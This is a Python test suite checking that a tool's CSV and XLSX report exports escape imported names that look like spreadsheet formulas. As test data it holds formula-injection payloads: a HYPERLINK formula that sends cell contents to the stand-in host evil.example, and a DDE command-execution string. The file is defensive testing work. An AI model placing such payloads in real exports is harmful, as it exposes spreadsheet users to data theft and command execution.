"""Exports opened in a spreadsheet: names from imported files never become live formulas.

Structures named like formulas are imported with `prober structures import`, a wave over them is
planned, then `prober report` (CSV, XLSX) and `prober wave export --format csv` write them; the
files are read back as a spreadsheet would (openpyxl for XLSX, the csv module for CSV).
"""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from openpyxl import load_workbook  # type: ignore[import-untyped]
from sqlalchemy import update

from config.cells import inert_text, read_cell, sheet_title
from storage.db import make_engine, session_scope
from storage.models import Wave
from tests.support.cli import Run
from tests.support.results_scene import email, latency, write_attempts

HOSTILE = {
    "21770001800011": '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")',
    "21770001800012": "=cmd|' /C calc'!A0",
    "21770001800013": "+33 1 64 81 00 11",
    "21770001800014": "-2+3",
    "21770001800015": "@SUM(A1:A9)",
    "21770001800016": "=1+1",
    "21770001800017": "Mairie de Melun",
}


@pytest.fixture
def hostile_wave(prober_cli: Run, tmp_path: Path, database_url: str) -> str:
    """Wave `w` carried out over structures whose names are formulas."""
    assert prober_cli("init").exit_code == 0
    lines = ["official_id,name,kind,departement,phone,email,opening_hours"]
    for number, (official_id, name) in enumerate(HOSTILE.items()):
        quoted = '"' + name.replace('"', '""') + '"'
        phone = f"01 64 81 00 {number:02d}"
        lines.append(f"{official_id},{quoted},mairie,77,{phone},m{number}@ex.fr,Mo-Fr 08:30-17:00")
    source = tmp_path / "hostile.csv"
    source.write_text("\n".join(lines) + "\n", encoding="utf-8")
    imported = prober_cli("structures", "import", str(source))
    assert imported.exit_code == 0, imported.stderr
    created = prober_cli(
        "wave", "create", "w", "--start", "2026-05-04", "--end", "2026-05-29",
        "--channels", "phone,email",
    )  # fmt: skip
    assert created.exit_code == 0, created.stderr
    assert prober_cli("wave", "plan", "w").exit_code == 0
    engine = make_engine(database_url)
    replies = [email("replied", first_human_reply=latency(7200, 0)), email("sent")]
    write_attempts(engine, "w", 0, replies)
    engine.dispose()
    return "w"


def csv_rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as stream:
        return list(csv.DictReader(stream))


def test_csv_report_quotes_formulas(prober_cli: Run, hostile_wave: str, tmp_path: Path) -> None:
    out = tmp_path / "report.csv"
    written = prober_cli("report", hostile_wave, "--format", "csv", "--out", str(out))
    assert written.exit_code == 0, written.stderr
    rows = csv_rows(out)
    names = {row["official_id"]: row["name"] for row in rows}
    assert names == {official_id: inert_text(name) for official_id, name in HOSTILE.items()}
    assert names["21770001800012"] == "'=cmd|' /C calc'!A0"
    assert names["21770001800017"] == "Mairie de Melun"
    assert {read_cell(name) for name in names.values()} == set(HOSTILE.values())
    # Numbers stay numbers: no quote before a score or a count.
    assert all(row["contacts"].isdigit() for row in rows)


def test_xlsx_report_has_no_formula(prober_cli: Run, hostile_wave: str, tmp_path: Path) -> None:
    out = tmp_path / "report.xlsx"
    written = prober_cli("report", hostile_wave, "--format", "xlsx", "--out", str(out))
    assert written.exit_code == 0, written.stderr
    workbook = load_workbook(out)
    sheet = workbook.active
    header = [cell.value for cell in sheet[1]]
    name_column = header.index("name")
    contacts_column = header.index("contacts")
    names = {}
    for row in sheet.iter_rows(min_row=2):
        assert all(cell.data_type != "f" for cell in row), [cell.value for cell in row]
        name = row[name_column]
        names[row[0 + header.index("official_id")].value] = name.value
        assert name.data_type == "s"
        assert name.quotePrefix == name.value.startswith(("=", "+", "-", "@", "\t"))
        assert row[contacts_column].data_type == "n"
    workbook.close()
    assert names == HOSTILE


def test_wave_export_csv_quotes_formulas(
    prober_cli: Run, hostile_wave: str, tmp_path: Path
) -> None:
    out = tmp_path / "probes.csv"
    exported = prober_cli("wave", "export", hostile_wave, "--format", "csv", "--out", str(out))
    assert exported.exit_code == 0, exported.stderr
    rows = csv_rows(out)
    assert len(rows) > len(HOSTILE)
    for row in rows:
        official_id = row["structure_official_id"]
        assert row["structure_name"] == inert_text(HOSTILE[official_id])
        assert not row["structure_name"].startswith(("=", "+", "-", "@", "\t", "\r"))


def test_a_stored_name_unfit_for_a_sheet_title(
    prober_cli: Run, hostile_wave: str, tmp_path: Path, database_url: str
) -> None:
    """An older database may hold a wave named anyhow: the XLSX report still opens."""
    bad = "a/b[c]:d*?e"
    engine = make_engine(database_url)
    with session_scope(engine) as session:
        session.execute(update(Wave).where(Wave.name == hostile_wave).values(name=bad))  # type: ignore[arg-type]
    engine.dispose()
    out = tmp_path / "report.xlsx"
    written = prober_cli("report", bad, "--format", "xlsx", "--out", str(out))
    assert written.exit_code == 0, written.stderr
    workbook = load_workbook(out)
    assert workbook.sheetnames == ["a_b_c__d__e"] == [sheet_title(bad)]
    assert workbook.active["A2"].value == bad  # the wave column keeps the stored name
    workbook.close()
    exported = prober_cli("wave", "export", bad, "--format", "csv", "--out", str(tmp_path / "p"))
    assert exported.exit_code == 0, exported.stderr
